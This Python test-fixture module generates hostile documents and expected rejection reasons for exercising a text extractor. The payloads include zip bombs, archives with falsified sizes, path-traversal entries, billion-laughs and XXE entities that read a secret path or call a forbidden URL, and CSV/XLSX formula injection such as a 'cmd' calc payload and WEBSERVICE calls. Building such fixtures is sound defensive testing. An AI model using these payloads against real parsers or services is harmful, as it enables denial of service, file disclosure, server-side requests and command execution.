"""Files that are made to harm whoever reads them: archives that burst, entities, links, depths, lies about sizes.

Those that refer to something name a folder with a secret in it and the address of a server that must not be asked.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_MAIN = {
    "word/document.xml": "wordprocessingml.document.main",
    "xl/workbook.xml": "spreadsheetml.sheet.main",
    "ppt/presentation.xml": "presentationml.presentation.main",
}
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a0 "lol">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
HARMLESS = ""
"""The reason of a file that is read, as far as it has text, without any harm."""


class HostileFile(NamedTuple):
    """A file and the reasons for which it may be refused; `HARMLESS` among them if it may be read."""

    name: str
    content: bytes
    reasons: frozenset[str]


def archive(parts: dict[str, str | bytes], level: int = 6) -> bytes:
    """A zip archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return buffer.getvalue()


def office(main: str, content: str | bytes, **parts: str | bytes) -> bytes:
    """An Office file with one main part, and others."""
    types = (
        f'<Types xmlns="{_TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.{_MAIN[main]}+xml"/>'
        "</Types>"
    )
    relations = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="{main}"/>'
        "</Relationships>"
    )
    return archive({"[Content_Types].xml": types, "_rels/.rels": relations, main: content, **parts})


def word(body: str, head: str = "", **parts: str | bytes) -> bytes:
    """A Word document."""
    content = f'{head}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return office("word/document.xml", content, **parts)


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def workbook(sheet: str, **parts: str | bytes) -> bytes:
    """A workbook with one sheet."""
    sheets = '<sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets>'
    book = f'<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}">{sheets}</workbook>'
    relations = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r1" Type="{_OFFICE}/worksheet" '
        'Target="worksheets/sheet1.xml"/></Relationships>'
    )
    content = f'<worksheet xmlns="{_SHEET}">{sheet}</worksheet>'
    return office(
        "xl/workbook.xml",
        book,
        **{"xl/_rels/workbook.xml.rels": relations, "xl/worksheets/sheet1.xml": content, **parts},
    )


def row(*cells: str) -> str:
    return f"<sheetData><row r='1'>{''.join(cells)}</row></sheetData>"


def overlapping(entries: int) -> bytes:
    """An archive whose entries are all the same bytes, which a reader unpacks for each of them."""
    data = zlib.compress(b"\0" * 10_000_000, 9)[2:-4]
    head = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, zlib.crc32(b""), len(data), 10_000_000, 1, 0
    )
    body = head + b"a" + data
    listed = b"".join(
        struct.pack(
            *(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                0,
                len(data),
                10_000_000,
                5,
                0,
                0,
                0,
                0,
                0,
                0,
            )
        )
        + b"%05d" % number
        for number in range(entries)
    )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(listed), len(body), 0)
    return body + listed + end


def lying(content: bytes) -> bytes:
    """An archive whose entries say that they are small."""
    data = bytearray(content)
    place = data.find(b"PK\x01\x02")
    while place >= 0:
        struct.pack_into("<I", data, place + 24, 10)
        place = data.find(b"PK\x01\x02", place + 4)
    return bytes(data)


def png(width: int, height: int) -> bytes:
    """A picture that says how large it is and has hardly any pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 100)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def hostile_files(url: str, secret: str) -> Iterator[HostileFile]:
    """All of them.

    Args:
        url: of a server that must not be asked.
        secret: the path of a file that must not be read.
    """

    def one(name: str, content: bytes | str, *reasons: str) -> HostileFile:
        data = content if isinstance(content, bytes) else content.encode()
        return HostileFile(name, data, frozenset(reasons))

    big = b"\0" * 60_000_000
    external = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
    remote = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}/entity">]>'
    dtd = f'<!DOCTYPE x SYSTEM "{url}/x.dtd">'
    linked = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r9" Type="{_OFFICE}/image" Target="{url}/i.png" '
        f'TargetMode="External"/><Relationship Id="r8" Type="{_OFFICE}/attachedTemplate" Target="{url}/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    # archives
    yield one("ratio.docx", word(paragraph("a"), **{"word/media/a.bin": big}), "too_large")
    yield one("ratio.xlsx", workbook(row(), **{"xl/media/a.bin": big}), "too_large")
    yield one("ratio.pptx", office("ppt/presentation.xml", "<p/>", **{"ppt/media/a.bin": big}), "too_large")
    yield one("ratio.epub", archive({"mimetype": "application/epub+zip", "a.bin": big}), "too_large")
    yield one("lying.docx", lying(word(paragraph("a"), **{"word/media/a.bin": big})), "damaged", "too_large")
    yield one("overlapping.docx", overlapping(200), "damaged", "too_large")
    yield one("overlapping.epub", overlapping(5000), "damaged", "too_large")
    yield one("entries.xlsx", archive({f"xl/{number}.xml": "" for number in range(20_001)}), "too_large")
    yield one("nested.docx", word(paragraph("nested"), **{"word/a.zip": archive({"b.zip": big})}), HARMLESS)
    yield one("cut.docx", word(paragraph("a" * 5000))[:-200], "damaged")
    yield one("cut.pptx", office("ppt/presentation.xml", "<p/>")[:300], "damaged")
    yield one("outside.docx", word(paragraph("outside"), **{"../../../tmp/outside.xml": "<a/>"}), HARMLESS)
    yield one("absolute.docx", word(paragraph("absolute"), **{secret: "<a/>"}), HARMLESS)
    yield one("head.docx", b"PK\x03\x04", "damaged")
    yield one("tail.xlsx", b"PK\x05\x06" + b"\xff" * 18, "damaged", "too_large")
    # entities and links
    yield one("laughs.docx", word("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", _LAUGHS), "damaged")
    yield one("external.docx", word("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", external), "damaged")
    yield one("remote.docx", word("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", remote), "damaged")
    yield one("dtd.docx", word(paragraph("a"), dtd), "damaged")
    wide = f"{external}<w:document xmlns:w='{WORD}'/>".encode("utf-16")
    yield one("wide.docx", office("word/document.xml", wide), "damaged")
    yield one(
        "laughs.xlsx", workbook(row(), **{"xl/sharedStrings.xml": f"{_LAUGHS}<sst>&a9;</sst>"}), "damaged"
    )
    yield one("laughs.pptx", office("ppt/presentation.xml", f"{_LAUGHS}<p>&a9;</p>"), "damaged")
    yield one("laughs.html", f"{_LAUGHS}<p>word &a9;</p>", HARMLESS)
    yield one("external.xhtml", f"<?xml version='1.0'?>{external}<html><p>word &e;</p></html>", HARMLESS)
    yield one("linked.docx", word(paragraph("linked"), **{"word/_rels/document.xml.rels": linked}), HARMLESS)
    yield one(
        "links.html",
        f"<base href='{url}/'><link rel=stylesheet href='{url}/s.css'><style>@import '{url}/i.css';"
        f"@font-face {{src: url({url}/f.ttf)}}</style><script src='{url}/j.js'></script><img src='{url}/i.png'>"
        f"<img src='file://{secret}'><iframe src='{url}/f'></iframe><object data='{url}/o'></object>"
        f"<svg><image href='{url}/v.svg'/></svg><p style=\"background:url({url}/b.png)\">links</p>"
        f"<meta http-equiv=refresh content='0;url={url}/r'><script>document.write('scripted')</script>",
        HARMLESS,
    )
    yield one(
        "links.md", f"![a]({url}/i.png) ![b](file://{secret}) <img src='{url}/j.png'> links\n", HARMLESS
    )
    yield one(
        "links.eml",
        f"From: a@example.com\nSubject: links\nContent-Type: text/html\n\n<img src='{url}/i.png'><p>links</p>",
        HARMLESS,
    )
    yield one("formula.csv", f'name,link\na,"=WEBSERVICE(""{url}/w"")"\nb,"=cmd|\'/c calc\'!A1"\n', HARMLESS)
    web = f'<c r="A1" t="str"><f>WEBSERVICE("{url}/w")</f><v>words</v></c>'
    yield one("formula.xlsx", workbook(row(web)), HARMLESS)
    # depths and lengths
    yield one("deep.html", "<div>" * 50_000 + "deep" + "</div>" * 50_000, HARMLESS, "damaged", "no_text")
    yield one("lists.html", "<ul><li>" * 20_000 + "deep", HARMLESS, "damaged", "no_text")
    yield one("tables.html", "<table><tr><td>" * 5_000 + "deep", HARMLESS, "damaged", "no_text")
    yield one("span.html", "<table><tr><td colspan=99999999 rowspan=99999999>a<td>b</table>", HARMLESS)
    nested = "<w:tbl><w:tr><w:tc>" * 3000 + paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 3000
    yield one("deep.docx", word(nested), HARMLESS, "damaged", "no_text", "crashed")
    yield one("deep.md", "> " * 20_000 + "deep", HARMLESS, "no_text")
    yield one("lists.md", "".join("  " * depth + "- a\n" for depth in range(2000)), HARMLESS, "timeout")
    yield one("brackets.md", "[" * 50_000 + "a", HARMLESS)
    yield one("stars.md", "*a **b " * 20_000, HARMLESS)
    parts = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(10_000))
    yield one("deep.eml", f"From: a@example.com\nSubject: deep\n{parts}", "damaged")
    yield one("line.txt", "word " * 100_000, HARMLESS)
    yield one("nul.txt", b"\0" * 1_000_000, "no_text")
    yield one("nul.csv", b"a,b\0\n1,2\0\n" * 100, "damaged")
    yield one("field.csv", 'a,b\n1,"' + "word " * 200_000 + '"\n', HARMLESS, "damaged")
    yield one("quote.csv", 'a,b\n"' + "1,2\n" * 50_000, HARMLESS, "damaged")
    yield one("columns.csv", ",".join(str(number) for number in range(200_000)), "too_large")
    # workbooks that lie
    yield one(
        "dimension.xlsx",
        workbook(
            '<dimension ref="A1:XFD1048576"/>' + row('<c r="A1" t="inlineStr"><is><t>words</t></is></c>')
        ),
        HARMLESS,
    )
    far = '<sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row></sheetData>'
    yield one("far.xlsx", workbook(far), HARMLESS)
    merged = row('<c r="A1" t="inlineStr"><is><t>words</t></is></c>')
    merged += '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield one("merged.xlsx", workbook(merged), HARMLESS, "too_large")
    yield one(
        "shared.xlsx", workbook(row('<c r="A1" t="s"><v>999999</v></c>')), HARMLESS, "damaged", "no_text"
    )
    yield one("number.xlsx", workbook(row('<c r="A1"><v>1e999</v></c>')), HARMLESS, "damaged", "no_text")
    yield one(
        "date.xlsx", workbook(row('<c r="A1" t="d"><v>99999-99-99</v></c>')), HARMLESS, "damaged", "no_text"
    )
    # what the ending does not say
    yield one("ole.docx", _OLE + b"\0" * 5000, "damaged", "unsupported", "locked")
    yield one("word.docx", _OLE + "WordDocument".encode("utf-16-le") + b"\0" * 5000, "unsupported")
    yield one("slides.docx", office("ppt/presentation.xml", "<p/>"), "unsupported")
    yield one("document.xlsx", word(paragraph("a")), "unsupported")
    yield one("program.md", b"MZ\x90\x00" + bytes(range(256)) * 50, HARMLESS, "no_text")
    yield one("picture.docx", png(60_000, 60_000), "damaged")
    yield one("large.png", png(60_000, 60_000), "too_large")
    yield one("pixels.png", png(9_000, 9_000), "no_text", "damaged")
    yield one("empty.docx", b"", "empty")
    yield one("empty.eml", b"", "empty")
